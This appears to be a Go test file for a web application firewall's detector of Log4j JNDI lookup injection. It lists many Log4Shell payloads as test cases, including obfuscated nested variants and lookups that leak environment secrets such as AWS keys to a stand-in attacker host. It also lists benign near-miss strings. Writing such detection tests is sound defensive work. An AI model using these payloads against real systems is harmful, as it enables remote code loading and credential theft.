package jndi

import (
	"strings"
	"testing"

	"github.com/portcullis-waf/portcullis/waf/detect"
	tt "github.com/portcullis-waf/portcullis/waf/detect/internal/tabletest"
)

const (
	q    = detect.WhereQuery
	form = detect.WhereForm
	js   = detect.WhereJSON
	hdr  = detect.WhereHeader
	ck   = detect.WhereCookie
	body = detect.WhereBody
)

var cases = []tt.Case{
	// Plain and case-varied lookups.
	{Value: "${jndi:ldap://attacker.example:1389/a}", Where: hdr, Want: tt.Attack},
	{Value: "${jndi:rmi://attacker.example/obj}", Where: q, Want: tt.Attack},
	{Value: "${jndi:dns://attacker.example/x}", Where: hdr, Want: tt.Attack},
	{Value: "${JNDI:LDAP://attacker.example/a}", Where: hdr, Want: tt.Attack},
	{Value: "${jNdI:ldAp://attacker.example/a}", Where: hdr, Want: tt.Attack},
	{Value: "${jndi:ldaps://attacker.example/a}", Where: form, Want: tt.Attack},
	{Value: "${jndi:iiop://attacker.example/a}", Where: form, Want: tt.Attack},
	{Value: "Mozilla/5.0 ${jndi:ldap://x.example/a} Chrome", Where: hdr, Want: tt.Attack},
	{Value: `{"user":"${jndi:ldap://x.example/a}"}`, Where: body, Want: tt.Attack},

	// Obfuscated: nested lookups that build "jndi:".
	{Value: "${${lower:j}ndi:ldap://x.example/a}", Where: hdr, Want: tt.Attack},
	{Value: "${${lower:J}${lower:N}${lower:D}${lower:I}:ldap://x.example/a}", Where: hdr, Want: tt.Attack},
	{Value: "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://x.example/a}", Where: hdr, Want: tt.Attack},
	{Value: "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.example/a}", Where: hdr, Want: tt.Attack},
	{Value: "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}", Where: hdr, Want: tt.Attack},
	{Value: "${jndi:${lower:l}${lower:d}a${lower:p}://x.example/a}", Where: hdr, Want: tt.Attack},
	{Value: "${${sys:nope:-j}ndi:ldap://x.example/a}", Where: q, Want: tt.Attack},
	{Value: "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}", Where: hdr, Want: tt.Attack},
	{Value: "${${base64:am5kaQ==}:ldap://x.example/a}", Where: hdr, Want: tt.Attack},
	{Value: "${${base64:JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0=}}", Where: hdr, Want: tt.Attack}, // decodes to ${jndi:…}, substituted again
	{Value: "${${lower:jnd}${upper:i}:ldap://x.example/a}", Where: hdr, Want: tt.Attack},
	{Value: "${${lower:${lower:jndi}}:${lower:rmi}://x.example/a}", Where: hdr, Want: tt.Attack},
	{Value: "${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example/a}", Where: hdr, Want: tt.Attack},
	{Value: "${${main:\\k5:-Jn}${main:\\k5:-di}${main:\\k5:-:}ldap://x.example/a}", Where: ck, Want: tt.Attack},
	{Value: "${j${k8s:k5:-ND}i:ldap://x.example/a}", Where: hdr, Want: tt.Attack},
	{Value: "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.x.example/a}", Where: hdr, Want: tt.Attack},
	{Value: "${jndi:dns://${sys:java.version}.x.example}", Where: hdr, Want: tt.Attack},
	{Value: "${jndi:ldap://${hostName}.x.example/a}", Where: hdr, Want: tt.Attack},
	{Value: "$${::-x}${jndi:ldap://x.example/a}", Where: hdr, Want: tt.Attack},

	// Reading secrets without jndi.
	{Value: "${env:AWS_SECRET_ACCESS_KEY}", Where: hdr, Want: tt.Attack},
	{Value: "${sys:user.home}", Where: q, Want: tt.Attack},
	{Value: "${java:version}", Where: hdr, Want: tt.Attack},
	{Value: "${ENV:DATABASE_PASSWORD}", Where: form, Want: tt.Attack},
	{Value: "${spring:spring.datasource.password}", Where: hdr, Want: tt.Attack},
	{Value: "${docker:containerId}", Where: hdr, Want: tt.Attack},

	// Helper lookups alone: weak.
	{Value: "${lower:HELLO}", Where: form, Want: tt.Weak},
	{Value: "${date:yyyy}", Where: form, Want: tt.Weak},

	// Near-misses: shell, templates, escapes.
	{Value: "${HOME}", Where: form, Want: tt.None},
	{Value: "Set PATH=${PATH}:/usr/local/bin and restart", Where: form, Want: tt.None},
	{Value: "${price} per unit", Where: form, Want: tt.None},
	{Value: "${user.name}", Where: form, Want: tt.None},
	{Value: "${VAR:-default}", Where: form, Want: tt.None},
	{Value: "${server.port:8080}", Where: form, Want: tt.None},
	{Value: "Total: ${amount:-0} USD", Where: form, Want: tt.None},
	{Value: "$${jndi:ldap://x.example/a}", Where: form, Want: tt.None},
	{Value: "${jndi:ldap://x.example/a", Where: form, Want: tt.None},
	{Value: "costs $5 {approx}", Where: form, Want: tt.None},
	{Value: "${}", Where: form, Want: tt.None},
	{Value: "${:}", Where: form, Want: tt.None},
	{Value: "${${}}", Where: form, Want: tt.None},
	{Value: "`${a}${b}` template literal", Where: form, Want: tt.None},
	{Value: "jndi:ldap is a Java thing", Where: form, Want: tt.None},
	{Value: "${spring.datasource.url}", Where: form, Want: tt.None},
	{Value: "POSTGRES_PASSWORD=${POSTGRES_PASSWORD:-secret}", Where: form, Want: tt.None},
	{Value: "region = \"${var.region}\"", Where: form, Want: tt.None},
	{Value: "token: ${{ secrets.GITHUB_TOKEN }}", Where: form, Want: tt.None},
	{Value: "<version>${project.version}</version>", Where: form, Want: tt.None},
	{Value: "const url = `${env.API_URL}/items`", Where: form, Want: tt.None},
	{Value: "echo ${HOME:-/root}", Where: form, Want: tt.None},
	{Value: "${unknown:thing}", Where: form, Want: tt.None},
}

func TestDetect(t *testing.T) { tt.Run(t, New(), cases) }

func TestEvidenceSpan(t *testing.T) {
	v := "ua ${lower:x} then ${${lower:j}ndi:ldap://x.example/a} end"
	f, ok := New().Detect(detect.Input{Value: v, Where: hdr})
	if !ok {
		t.Fatal("no finding")
	}
	if got := v[f.Start:f.End]; got != "${${lower:j}ndi:ldap://x.example/a}" {
		t.Errorf("evidence %q", got)
	}
}

// Deep nesting and long output stay bounded.
const maxStepsPerByte = 40

func steps(in detect.Input) (detect.Finding, bool, int) {
	var e eval
	f, ok := e.run(in)
	return f, ok, e.steps
}

func TestStepsLinear(t *testing.T) {
	units := []string{"${", "${a}", "${::-", "${lower:", "${::-${::-$}{x}}", "}", "$${", "${base64:JHt", "${date:'"}
	for _, unit := range units {
		v := strings.Repeat(unit, 5000)
		_, _, n := steps(detect.Input{Value: v, Where: q})
		if bound := tt.StepBound(len(v), maxStepsPerByte, arenaCap*4); n > bound {
			t.Errorf("%q x 5000: %d steps > %d", unit, n, bound)
		}
	}
	nested := strings.Repeat("${::-", 3000) + "j" + strings.Repeat("}", 3000)
	_, _, n := steps(detect.Input{Value: nested, Where: q})
	if bound := tt.StepBound(len(nested), maxStepsPerByte, arenaCap*4); n > bound {
		t.Errorf("deep nesting: %d steps > %d", n, bound)
	}
}

func FuzzDetect(f *testing.F) {
	tt.Seeds(f, cases)
	d := New()
	f.Fuzz(func(t *testing.T, v string, where uint8) {
		in := detect.Input{Value: v, Where: detect.Where(where % 11)}
		fd, ok, n := steps(in)
		if err := tt.Invariants(d, in, fd, ok); err != nil {
			t.Fatal(err)
		}
		if bound := tt.StepBound(len(v), maxStepsPerByte, arenaCap*4); n > bound {
			t.Fatalf("%d steps for %d bytes > %d", n, len(v), bound)
		}
	})
}

var benignInputs = []detect.Input{
	{Value: "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", Where: hdr},
	{Value: "Hello, I would like to change my delivery address to 12 Main St.", Where: form},
	{Value: "42", Where: q},
	{Value: "${price} per unit", Where: form},
	{Value: "text/html,application/xhtml+xml", Where: hdr},
	{Value: "Set PATH=${PATH}:/usr/local/bin", Where: form},
}

var attackInputs = []detect.Input{
	{Value: "${jndi:ldap://attacker.example:1389/a}", Where: hdr},
	{Value: "${${lower:j}ndi:ldap://x.example/a}", Where: hdr},
	{Value: "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.example/a}", Where: hdr},
	{Value: "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}", Where: hdr},
	{Value: "${env:AWS_SECRET_ACCESS_KEY}", Where: hdr},
	{Value: "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.x.example/a}", Where: hdr},
}

func BenchmarkDetect(b *testing.B) {
	b.Run("benign", func(b *testing.B) { tt.Bench(b, New(), benignInputs) })
	b.Run("attack", func(b *testing.B) { tt.Bench(b, New(), attackInputs) })
}
